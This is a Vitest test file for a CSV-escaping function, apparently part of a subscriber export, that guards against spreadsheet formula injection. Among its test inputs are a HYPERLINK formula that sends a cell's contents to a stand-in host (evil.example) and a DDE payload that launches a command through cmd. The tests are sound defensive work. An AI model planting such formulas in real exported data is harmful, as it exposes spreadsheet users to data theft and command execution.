import { expect, test } from 'vitest'
import { quoteCsv } from '../../src/services/subscribers/csv-cells.ts'

test.each([
  [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    `"'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"`,
  ],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+33 1 23', "'+33 1 23"],
  ['-2+3', "'-2+3"],
  ['@SUM(1,2)', `"'@SUM(1,2)"`],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['a,b', '"a,b"'],
  ['a\nb', '"a\nb"'],
  ['say "no"', '"say ""no"""'],
  ['a=b', 'a=b'],
])('the cell %j is text to a spreadsheet: %j', (value, cell) => {
  expect(quoteCsv(value)).toBe(cell)
})
